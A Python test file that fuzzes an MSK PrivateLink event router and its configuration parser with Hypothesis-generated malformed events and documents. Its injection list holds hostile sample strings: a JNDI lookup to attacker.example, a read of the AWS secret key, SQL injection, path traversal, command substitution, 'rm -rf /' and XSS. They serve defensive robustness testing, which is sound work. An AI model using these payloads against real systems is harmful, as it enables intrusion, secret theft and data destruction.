"""Malformed input: Hypothesis-generated EventBridge events and configuration documents.

Events: ``triggers.route`` either raises ``InvalidEventError`` or returns a
Routing whose requests name configured clusters only; through the real router
handler a malformed event is skipped and writes nothing (one that still names
a configured cluster is enqueued: one SendMessageBatch, no other write). Configuration
documents: ``parse_config`` validates or raises ``ConfigError`` naming the
source, and what validates round-trips through ``dump_config``.

Generation is derandomized (the same examples on every run) and uses no
example database. The tests at the end pin down inputs that once got through
(a non-string eventName, a lone-surrogate id, a non-object event given to the
handler, newline-terminated or non-ASCII values in a configuration).
"""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from msk_privatelink.kernel.errors import ConfigError, InvalidEventError
from msk_privatelink.reconcile.config import dump_config, parse_config
from msk_privatelink.reconcile.triggers import MAX_GROUP_ID, ReconcileRequest, Routing, route
from tests.faults.support import reconcile_queue, record_calls, wire
from tests.fuzzing import fuzz_settings
from tests.integration.harness import (
    EVENTS,
    FIXTURE_CLUSTER_ARN,
    load_event,
    with_cluster,
    world,
)

pytestmark = [
    pytest.mark.faults,
    # The router handler flushes metrics even when it recorded none.
    pytest.mark.filterwarnings("ignore:No application metrics to publish:UserWarning"),
]

PURE_EXAMPLES = 1500
HANDLER_EXAMPLES = 60
CONFIG_EXAMPLES = 1500


# ------------------------------------------------------------ value strategies

INJECTIONS = (
    "'; DROP TABLE brokers; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "${jndi:ldap://attacker.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "$(reboot)",
    "`id`",
    "%s%s%s%n",
    "\x00",
    "\r\nX-Injected: 1",
    "\u202egnp.exe",
    "\ufeff",
    "\ud800",
    "🦄" * 8,
    "\uff41\uff57\uff53.\uff4b\uff41\uff46\uff4b\uff41",  # full-width "aws.kafka"
    "arn:aws:kafka:us-east-1:123456789012:cluster/x/y; rm -rf /",
    FIXTURE_CLUSTER_ARN + "\n",
    FIXTURE_CLUSTER_ARN.upper(),
    FIXTURE_CLUSTER_ARN.replace("demo-cluster", "../../demo-cluster"),
    "aws.kafka",
    "aws.ec2",
    "aws.events",
    "AWS API Call via CloudTrail",
    "Scheduled Event",
    "UpdateBrokerCount",
    "AWSServiceRoleForKafka",
)
# Up to 256 KiB, EventBridge's event size limit; 128 and 129 straddle the id limit.
SIZES = (0, 1, 127, 128, 129, 1024, 65_536, 256 * 1024)


def _repeat(seed: str, size: int) -> str:
    return (seed * (size // max(len(seed), 1) + 1))[:size]


huge_strings = st.builds(
    _repeat, st.sampled_from(("A", "é", "🦄", *INJECTIONS[:6])), st.sampled_from(SIZES)
)
strings = st.one_of(st.text(max_size=40), st.sampled_from(INJECTIONS), huge_strings)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    strings,
)
json_values = st.recursive(
    scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(
            st.one_of(st.text(max_size=12), st.sampled_from(INJECTIONS)), children, max_size=4
        ),
    ),
    max_leaves=12,
)


def _nested(depth: int, leaf_kind: str) -> Any:
    """A value nested ``depth`` levels deep, parsed from JSON text as the Lambda
    runtime would (deeper than JSON parsing allows cannot reach a handler; the
    depths here stay well within it, even below pytest's own stack)."""
    opening, closing = ("[", "]") if leaf_kind == "list" else ('{"a":', "}")
    return json.loads(opening * depth + '"x"' + closing * depth)


nested_values = st.builds(
    _nested, st.sampled_from((1, 10, 100, 300, 500)), st.sampled_from(("list", "dict"))
)
values = st.one_of(json_values, nested_values, strings)

# --------------------------------------------------------------- event strategies

EVENT_FILES = sorted(p.name for p in EVENTS.glob("*.json"))
HOT_PATHS = (
    ("id",),
    ("source",),
    ("detail-type",),
    ("detail",),
    ("detail", "eventName"),
    ("detail", "errorCode"),
    ("detail", "requestParameters"),
    ("detail", "requestParameters", "clusterArn"),
    ("detail", "responseElements", "clusterArn"),
    ("detail", "userIdentity", "sessionContext", "sessionIssuer", "userName"),
)


MAX_PATH = 8


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Paths into ``value``, at most MAX_PATH deep (so nested values do not compound)."""
    out: list[tuple[Any, ...]] = []
    if len(prefix) >= MAX_PATH:
        return out
    if isinstance(value, dict):
        for key, child in value.items():
            out.append((*prefix, key))
            out.extend(_paths(child, (*prefix, key)))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            out.append((*prefix, index))
            out.extend(_paths(child, (*prefix, index)))
    return out


def _mutate(event: Any, path: tuple[Any, ...], operation: str, value: Any) -> Any:
    """Delete or replace the value at ``path`` (creating missing dicts on the way)."""
    if not path:
        return value
    parent = event
    for key in path[:-1]:
        if isinstance(parent, dict):
            parent = parent.setdefault(key, {})
        elif isinstance(parent, list) and isinstance(key, int) and key < len(parent):
            parent = parent[key]
        else:
            return event
        if not isinstance(parent, dict | list):
            return event
    last = path[-1]
    if isinstance(parent, dict):
        if operation == "delete":
            parent.pop(last, None)
        else:
            parent[last] = value
    elif isinstance(parent, list) and isinstance(last, int) and last < len(parent):
        if operation == "delete":
            del parent[last]
        else:
            parent[last] = value
    return event


CONFIGURED = (
    FIXTURE_CLUSTER_ARN,
    FIXTURE_CLUSTER_ARN.replace("demo-cluster", "other-cluster"),
)


@st.composite
def mutated_events(draw: st.DrawFn) -> Any:
    """A real event (for a configured cluster or not) with 1-4 fields broken."""
    name = draw(st.sampled_from(EVENT_FILES))
    arn = draw(st.sampled_from((*CONFIGURED, CONFIGURED[0].replace("demo", "unmanaged"))))
    event: Any = load_event(name, arn)
    for _ in range(draw(st.integers(1, 4))):
        candidates = _paths(event) if isinstance(event, dict) else []
        path = draw(st.one_of(st.sampled_from(HOT_PATHS), st.sampled_from(candidates or [("id",)])))
        operation = draw(st.sampled_from(("delete", "replace", "replace")))
        event = _mutate(event, path, operation, draw(values))
    return event


envelopes = st.fixed_dictionaries(
    {},
    optional={
        "id": values,
        "source": st.one_of(st.sampled_from(("aws.kafka", "aws.ec2", "aws.events")), values),
        "detail-type": st.one_of(
            st.sampled_from(("AWS API Call via CloudTrail", "Scheduled Event")), values
        ),
        "detail": values,
        "account": values,
        "region": values,
        "resources": values,
        "time": values,
    },
)
events = st.one_of(mutated_events(), envelopes, values)
# Fewer examples through the handler: mostly objects, a few other JSON values.
handler_events = st.one_of(
    mutated_events(), mutated_events(), envelopes, st.sampled_from(([], "event", None, 0))
)


def shape(value: Any) -> tuple[int, int]:
    """Nesting depth and longest string (keys included), without recursion."""
    deepest, longest, stack = 0, 0, [(value, 1)]
    while stack:
        item, level = stack.pop()
        deepest = max(deepest, level)
        if isinstance(item, str):
            longest = max(longest, len(item))
        elif isinstance(item, dict):
            longest = max([longest, *(len(k) for k in item if isinstance(k, str))])
            stack.extend((child, level + 1) for child in item.values())
        elif isinstance(item, list):
            stack.extend((child, level + 1) for child in item)
    return deepest, longest


def snapshot(value: Any) -> str:
    # JSON text: NaN-safe equality, no deepcopy recursion on deeply nested input.
    return json.dumps(value, allow_nan=True)


def _event(source: str, detail: Any, **envelope: Any) -> dict[str, Any]:
    return {
        "id": "e1",
        "source": source,
        "detail-type": "AWS API Call via CloudTrail",
        "detail": detail,
        **envelope,
    }


_BIG = 256 * 1024
# Always checked, before the generated examples.
EXPLICIT_EVENTS: tuple[Any, ...] = (
    _event("aws.kafka", _nested(500, "dict")),
    _event("aws.kafka", {"eventName": "RebootBroker", "requestParameters": _nested(500, "list")}),
    _event("aws.kafka", {"eventName": "X", "errorCode": _nested(500, "list")}),
    _event("aws.kafka", {"eventName": _repeat("'; DROP TABLE brokers; --", _BIG)}),
    _event(
        "aws.kafka",
        {"eventName": "UpdateBrokerCount", "requestParameters": {"clusterArn": "A" * _BIG}},
    ),
    _event(
        "aws.kafka",
        {
            "eventName": "UpdateBrokerCount",
            "requestParameters": {"clusterArn": CONFIGURED[0] + "/../../other"},
        },
    ),
    _event(
        "aws.kafka",
        {"eventName": "UpdateBrokerCount", "requestParameters": {"clusterArn": CONFIGURED[0]}},
        id="x" * 129,
    ),
    _event(
        "aws.kafka",
        {"eventName": "UpdateBrokerCount", "requestParameters": {"clusterArn": CONFIGURED[0]}},
        id="x" * 128,
    ),
    _event(
        "aws.ec2",
        {
            "eventName": "CreateNetworkInterface",
            "userIdentity": {"sessionContext": {"sessionIssuer": {"userName": "${jndi:x}"}}},
        },
    ),
    {"id": "s", "source": "aws.events", "detail-type": "Scheduled Event", "detail": "A" * _BIG},
    {"id": "s", "source": "aws.events", "detail-type": "Scheduled Event" + "\x00"},
    [],
    "A" * _BIG,
    None,
)


# ----------------------------------------------------------------- known bugs


# --------------------------------------------------------------- route (pure)


def check_routing(routing: Routing, configured: tuple[str, ...]) -> None:
    assert isinstance(routing, Routing)
    assert isinstance(routing.note, str)
    assert routing.note
    clusters = [r.cluster_arn for r in routing.requests]
    assert set(clusters) <= set(configured)
    assert len(clusters) == len(set(clusters))
    for request in routing.requests:
        assert len(request.group_id) <= MAX_GROUP_ID
        assert re.fullmatch(r"[0-9a-f]{64}", request.deduplication_id)
        # The queue message body parses back into the same request.
        assert ReconcileRequest.from_json(request.to_json()) == request


def test_route_refuses_or_routes_to_configured_clusters_only(
    record_property: Callable[[str, object], None],
) -> None:
    outcomes: Counter[str] = Counter()
    deepest = 0
    longest = 0

    def check(event: Any) -> None:
        nonlocal deepest, longest
        event_depth, event_longest = shape(event)
        deepest, longest = max(deepest, event_depth), max(longest, event_longest)
        before = snapshot(event)
        refusal = ""
        try:
            routing = route(event, CONFIGURED)
        except InvalidEventError as exc:
            refusal = str(exc) or "<empty message>"
            outcomes["invalid"] += 1
        else:
            check_routing(routing, CONFIGURED)
            outcomes["routed" if routing.requests else "ignored"] += 1
        assert refusal != "<empty message>", "InvalidEventError without a reason"
        assert snapshot(event) == before, "route() changed its input"

    for explicit in EXPLICIT_EVENTS:
        check(explicit)
    fuzz_settings(PURE_EXAMPLES)(given(event=events)(check))()
    record_property("examples", sum(outcomes.values()))
    record_property("outcomes", dict(sorted(outcomes.items())))
    record_property("deepest_event", deepest)
    record_property("longest_string", longest)
    assert deepest > 500, deepest
    assert longest == _BIG, longest
    # The generator reaches every branch.
    assert outcomes["invalid"] > 0, outcomes
    assert outcomes["ignored"] > 0, outcomes
    assert outcomes["routed"] > 0, outcomes


valid_arns = st.builds(
    "arn:{}:kafka:{}:{}:cluster/{}/{}".format,
    st.sampled_from(("aws", "aws-cn", "aws-us-gov")),
    st.sampled_from(("us-east-1", "eu-west-1", "ap-southeast-2", "cn-north-1")),
    st.from_regex(r"[0-9]{12}", fullmatch=True),
    st.from_regex(r"[A-Za-z0-9-]{1,64}", fullmatch=True),
    st.from_regex(r"[A-Za-z0-9-]{1,40}", fullmatch=True),
)


@fuzz_settings(PURE_EXAMPLES // 3)
@given(
    configured=st.lists(valid_arns, max_size=5, unique=True),
    arn=st.one_of(valid_arns, strings),
    name=st.sampled_from(("UpdateBrokerCount", "RebootBroker", "DeleteCluster", "ListNodes")),
    event_id=st.one_of(st.text(min_size=1, max_size=128), strings),
    where=st.sampled_from(("requestParameters", "responseElements")),
)
def test_route_with_any_configured_clusters(
    configured: list[str], arn: str, name: str, event_id: str, where: str
) -> None:
    """Cluster ARNs in events and configurations vary too (configured ARNs are
    valid ones: configurations are validated before they are listed)."""
    if configured and arn == "":
        arn = configured[0]
    event = {
        "id": event_id,
        "source": "aws.kafka",
        "detail-type": "AWS API Call via CloudTrail",
        "detail": {"eventName": name, where: {"clusterArn": arn}},
    }
    try:
        routing = route(event, configured)
    except InvalidEventError:
        return
    check_routing(routing, tuple(configured))
    if routing.requests:
        assert [r.cluster_arn for r in routing.requests] == [arn]


# ---------------------------------------------------------- the router handler


@pytest.mark.integration
def test_router_handler_skips_malformed_events_without_writing(
    record_property: Callable[[str, object], None],
) -> None:
    outcomes: Counter[str] = Counter()
    with world() as w:
        queue = reconcile_queue(w)
        configured = (w.cluster_arn,)
        with record_calls() as log:
            functions = wire(w, queue)

            def check(event: Any) -> None:
                if isinstance(event, dict):
                    text = with_cluster(json.dumps(event), w.cluster_arn)
                    event = json.loads(text)
                try:
                    expected: Routing | None = route(event, configured)
                except InvalidEventError:
                    expected = None
                mark = log.mark()
                result = functions.route(event)
                calls = log.since(mark)
                if expected is None or not expected.requests:
                    outcomes["skipped" if expected is None else "ignored"] += 1
                    assert result["enqueued"] == []
                    if expected is None:
                        assert result["note"].startswith("skipped:")
                    # Reads only: no message, no resource, no bookkeeping.
                    assert [c.operation for c in calls if c.mutating] == []
                else:
                    outcomes["routed"] += 1
                    assert result["enqueued"] == [r.cluster_arn for r in expected.requests]
                    assert [c.operation for c in calls if c.mutating] == ["SendMessageBatch"]

            for explicit in EXPLICIT_EVENTS:
                check(explicit)
            fuzz_settings(HANDLER_EXAMPLES)(given(event=handler_events)(check))()
    record_property("examples", sum(outcomes.values()))
    record_property("outcomes", dict(sorted(outcomes.items())))
    assert outcomes["skipped"] > 0, outcomes


# --------------------------------------------------------- configuration documents

SCHEMES = ("plaintext", "tls", "sasl_scram", "sasl_iam")
valid_principals = st.one_of(
    st.builds("arn:aws:iam::{}:root".format, st.from_regex(r"[0-9]{12}", fullmatch=True)),
    st.builds(
        "arn:aws:iam::{}:role/{}".format,
        st.from_regex(r"[0-9]{12}", fullmatch=True),
        st.from_regex(r"[A-Za-z0-9+=,.@_-]{1,32}", fullmatch=True),
    ),
)
valid_regions = st.sampled_from(("us-east-1", "eu-west-1", "ap-southeast-2", "us-gov-west-1"))
valid_subnets = st.from_regex(r"subnet-[0-9a-f]{8,17}", fullmatch=True)
FIELD_VALUES: dict[str, st.SearchStrategy[Any]] = {
    "version": st.sampled_from((1, 2, "1", True, 1.0)),
    # Sometimes with a trailing newline: see the known bugs at the end.
    "cluster_arn": st.one_of(
        valid_arns, valid_arns.map("{}\n".format), st.sampled_from(INJECTIONS)
    ),
    "pattern": st.sampled_from(("nlb-per-broker", "shared-nlb", "NLB-PER-BROKER")),
    "auth_schemes": st.one_of(
        st.none(), st.lists(st.sampled_from((*SCHEMES, "kerberos")), max_size=5)
    ),
    "subnet_ids": st.one_of(st.none(), st.lists(st.one_of(valid_subnets, strings), max_size=4)),
    "acceptance_required": st.one_of(st.booleans(), st.sampled_from(("yes", "no", "maybe", 2))),
    "allowed_principals": st.lists(
        st.one_of(valid_principals, st.sampled_from(("*", "arn:aws:iam::*:root"))), max_size=4
    ),
    "supported_regions": st.lists(
        st.one_of(valid_regions, st.sampled_from(("mars-1",))), max_size=4
    ),
    "guard": st.one_of(
        st.fixed_dictionaries(
            {},
            optional={
                "max_broker_removal_ratio": st.one_of(
                    st.floats(allow_nan=True, allow_infinity=True), st.integers(-2, 2)
                )
            },
        ),
        values,
    ),
}
# Mostly well-formed documents (so some validate), each field sometimes anything.
_fields = st.fixed_dictionaries(
    {"cluster_arn": st.one_of(FIELD_VALUES["cluster_arn"], valid_arns, values)},
    optional={
        name: st.one_of(strategy, strategy, values)
        for name, strategy in FIELD_VALUES.items()
        if name != "cluster_arn"
    },
)
# Only well-formed values: these validate (or hit a cross-field rule).
_valid_fields = st.fixed_dictionaries(
    {"cluster_arn": valid_arns},
    optional={
        "version": st.just(1),
        "pattern": st.just("nlb-per-broker"),
        "auth_schemes": st.one_of(
            st.none(), st.lists(st.sampled_from(SCHEMES), min_size=1, max_size=4, unique=True)
        ),
        "subnet_ids": st.one_of(st.none(), st.lists(valid_subnets, min_size=1, max_size=4)),
        "acceptance_required": st.booleans(),
        "allowed_principals": st.lists(valid_principals, max_size=4),
        "supported_regions": st.lists(valid_regions, max_size=4),
        "guard": st.fixed_dictionaries(
            {},
            optional={
                "max_broker_removal_ratio": st.floats(
                    min_value=0, max_value=1, exclude_min=True, allow_subnormal=True
                )
            },
        ),
    },
)
_extra = st.dictionaries(st.sampled_from(("surprise", "Cluster_Arn", "guard ")), values, max_size=1)
documents = st.builds(lambda doc, extra: {**doc, **extra}, _fields, _extra)


def _encode(doc: dict[str, Any], encoding: str) -> bytes:
    return json.dumps(doc, ensure_ascii=False).encode(encoding, "surrogatepass")


raw_documents = st.one_of(
    documents,
    _valid_fields,
    _valid_fields.map(json.dumps),
    documents.map(json.dumps),
    st.builds(_encode, documents, st.sampled_from(("utf-8", "utf-16", "utf-32"))),
    strings,
    st.binary(max_size=64),
    st.builds(lambda depth: "[" * depth + "]" * depth, st.sampled_from((10, 1000, 100_000))),
    st.builds(lambda doc, junk: json.dumps(doc) + junk, documents, strings),
)
sources = st.one_of(
    st.sampled_from(("parameter /msk-privatelink/prod/clusters/orders", "config.yaml")),
    st.sampled_from(INJECTIONS),
)


def test_config_documents_validate_or_name_their_source(
    record_property: Callable[[str, object], None],
) -> None:
    outcomes: Counter[str] = Counter()

    @fuzz_settings(CONFIG_EXAMPLES)
    @given(document=raw_documents, source=sources)
    def check(document: Any, source: str) -> None:
        try:
            config = parse_config(document, source)
        except ConfigError as exc:
            refusal = str(exc)
        else:
            refusal = None
        if refusal is not None:
            assert source in refusal
            outcomes["refused"] += 1
            return
        outcomes["valid"] += 1
        dumped = dump_config(config)
        again = parse_config(dumped, "round trip")
        assert again == config
        assert dump_config(again) == dumped
        # What validates is routable: the queue message accepts its ARN.
        ReconcileRequest(cluster_arn=config.cluster_arn, trigger="schedule", event_id="e")

    check()
    record_property("examples", outcomes["valid"] + outcomes["refused"])
    record_property("outcomes", dict(sorted(outcomes.items())))
    assert outcomes["valid"] > 50, outcomes
    assert outcomes["refused"] > 50, outcomes


# ------------------------------------------- inputs that once got through

_CLOUDTRAIL = {"id": "e1", "detail-type": "AWS API Call via CloudTrail"}


@pytest.mark.parametrize("source", ["aws.kafka", "aws.ec2"])
def test_an_event_name_that_is_not_a_string_is_refused(source: str) -> None:
    event = {**_CLOUDTRAIL, "source": source, "detail": {"eventName": ["UpdateBrokerCount"]}}
    try:
        routing = route(event, CONFIGURED)
    except InvalidEventError:
        return
    assert routing.requests == ()


def test_an_event_id_with_a_lone_surrogate_is_refused() -> None:
    event = json.loads(
        '{"id": "\\ud800", "source": "aws.events", "detail-type": "Scheduled Event"}'
    )
    try:
        routing = route(event, CONFIGURED)
    except InvalidEventError:
        return
    assert len(routing.requests) == 2


@pytest.mark.integration
def test_the_router_handler_skips_a_non_object_event() -> None:
    with world() as w:
        result = wire(w, reconcile_queue(w)).route([])  # type: ignore[arg-type]
    assert result["note"].startswith("skipped:")


@pytest.mark.parametrize(
    "field",
    ["cluster_arn", "allowed_principals", "supported_regions", "subnet_ids"],
)
def test_config_refuses_a_trailing_newline(field: str) -> None:
    values = {
        "cluster_arn": FIXTURE_CLUSTER_ARN + "\n",
        "allowed_principals": ["arn:aws:iam::111122223333:root\n"],
        "supported_regions": ["eu-west-1\n"],
        "subnet_ids": ["subnet-0123456789abcdef0\n"],
    }
    document = {"cluster_arn": FIXTURE_CLUSTER_ARN, field: values[field]}
    with pytest.raises(ConfigError):
        parse_config(document, "parameter /x")


def test_a_newline_terminated_cluster_arn_never_reaches_a_sweep() -> None:
    # It would make every scheduled sweep fail for every cluster: refused at the door.
    with pytest.raises(ConfigError, match="not an MSK cluster ARN"):
        parse_config({"cluster_arn": FIXTURE_CLUSTER_ARN + "\n"}, "parameter /x")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        (
            "cluster_arn",
            "arn:aws:kafka:us-east-1:\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660\u0661\u0662:cluster/demo/abc",
        ),
        (
            "allowed_principals",
            [
                "arn:aws:iam::\uff11\uff11\uff11\uff11\uff12\uff12\uff12\uff12\uff13\uff13\uff13\uff13:root"
            ],
        ),
        ("allowed_principals", ["arn:aws:iam::111122223333:role/\u03a9mega"]),
        ("supported_regions", ["eu-west-\u0661"]),
    ],
    ids=["arabic-indic-account", "full-width-account", "greek-role-name", "arabic-indic-region"],
)
def test_config_refuses_non_ascii_digits_and_letters(field: str, value: object) -> None:
    document = {"cluster_arn": FIXTURE_CLUSTER_ARN, field: value}
    with pytest.raises(ConfigError):
        parse_config(document, "parameter /x")
